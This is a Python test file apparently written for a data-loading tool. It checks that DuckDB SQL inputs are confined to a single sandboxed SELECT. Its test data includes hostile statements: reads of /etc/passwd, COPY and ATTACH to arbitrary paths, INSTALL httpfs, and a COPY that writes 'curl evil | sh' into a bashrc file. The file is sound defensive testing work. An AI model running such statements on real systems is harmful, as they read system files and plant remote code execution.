"""SQL inputs are data: one SELECT, sandboxed, no files, network or extensions (issue 13)."""

from __future__ import annotations

import duckdb
import pytest

from tsinvest.cli import main
from tsinvest.exceptions import UnsafeInputError
from tsinvest.loading import load_logins
from tsinvest.loading.sql import check_references, check_single_select, sandboxed_connection

TS = "2026-03-02T10:00:00Z"


@pytest.mark.parametrize(
    "statement",
    [
        "COPY (SELECT 1) TO '{target}'",
        "ATTACH '{target}' AS other",
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM glob('/etc/*')",
        "INSTALL httpfs",
    ],
)
def test_sandbox_alone_blocks_every_attack(tmp_path, statement):
    """The third wall holds even if the statement checks were bypassed."""
    target = tmp_path / "pwned"
    connection = sandboxed_connection()
    try:
        with pytest.raises(duckdb.Error):
            connection.execute(statement.format(target=target)).fetchall()
        with pytest.raises(duckdb.Error, match="locked"):
            connection.execute("SET enable_external_access = true")
    finally:
        connection.close()
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ("SELECT 1; SELECT 2", "holds 2 SQL statements"),
        ("COPY (SELECT 1) TO 'x.csv'", "COPY statement"),
        ("EXPLAIN SELECT 1", "EXPLAIN statement"),
        ("CALL pragma_version()", "CALL statement"),
        ("EXPORT DATABASE 'out'", "EXPORT statement"),
        ("-- only a comment\n", "holds 0 SQL statements"),
    ],
)
def test_single_select_rule(query, reason):
    with pytest.raises(UnsafeInputError, match=reason):
        check_single_select(query, source="q.sql")


def test_semicolon_inside_a_string_is_one_statement():
    check_single_select("SELECT 'a; COPY x TO y' AS text -- ; ATTACH\n", source="q.sql")


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM (SELECT * FROM read_parquet('x.parquet'))",
        "WITH t AS (SELECT * FROM read_json_auto('x.json')) SELECT * FROM t",
        "SELECT (SELECT count(*) FROM sniff_csv('x.csv')) AS n",
        "SELECT * FROM 'data/events.csv'",
        "FROM query_table('logins')",
    ],
)
def test_file_readers_refused_anywhere_in_the_tree(query):
    with pytest.raises(UnsafeInputError, match="refused"):
        check_references(query, source="q.sql")


def test_sql_file_on_the_analysts_connection_still_cannot_read_files(tmp_path):
    # The analyst's own connection can read files; a .sql file run on it still may not.
    secret = tmp_path / "secret.csv"
    secret.write_text(f"account_id,ts\n1,{TS}\n", encoding="utf-8")
    sql_file = tmp_path / "logins.sql"
    sql_file.write_text(f"SELECT * FROM read_csv('{secret}')", encoding="utf-8")
    connection = duckdb.connect()
    with pytest.raises(UnsafeInputError, match="read_csv"):
        load_logins(sql_file, connection=connection)
    connection.execute(f"CREATE TABLE raw AS SELECT * FROM read_csv('{secret}', all_varchar = true)")
    sql_file.write_text("SELECT account_id, ts FROM raw", encoding="utf-8")
    assert load_logins(sql_file, connection=connection)["account_id"].tolist() == ["1"]


def test_analyst_query_text_is_one_select_but_may_read_named_files(tmp_path):
    path = tmp_path / "logins.csv"
    path.write_text(f"account_id,ts\n00123,{TS}\n", encoding="utf-8")
    frame = load_logins(f"SELECT * FROM read_csv('{path}', all_varchar = true)")
    assert frame["account_id"].tolist() == ["00123"]
    with pytest.raises(UnsafeInputError, match="2 SQL statements"):
        load_logins(f"SELECT 1; COPY (SELECT 1) TO '{tmp_path / 'x.csv'}'")
    assert not (tmp_path / "x.csv").exists()


def test_validate_refuses_a_hostile_sql_file(tmp_path, capsys):
    target = tmp_path / "bashrc"
    sql_file = tmp_path / "logins.sql"
    sql_file.write_text(f"COPY (SELECT 'curl evil | sh') TO '{target}' (HEADER false)", encoding="utf-8")
    assert main(["validate", str(sql_file)]) == 1
    err = capsys.readouterr().err
    assert "refused: COPY statement" in err and "logins.sql" in err
    assert not target.exists()


def test_validate_refuses_a_database_whose_view_reads_a_file(tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:phone +44 7700 900123", encoding="utf-8")
    database = tmp_path / "logins.duckdb"
    connection = duckdb.connect(str(database))
    connection.execute(f"CREATE VIEW logins AS SELECT content AS account_id, TIMESTAMPTZ '{TS}' AS ts FROM read_text('{secret}')")
    connection.close()
    assert main(["validate", str(database)]) == 1
    captured = capsys.readouterr()
    assert "tried to reach a file" in captured.err
    assert "root:" not in captured.out + captured.err and "7700" not in captured.out + captured.err
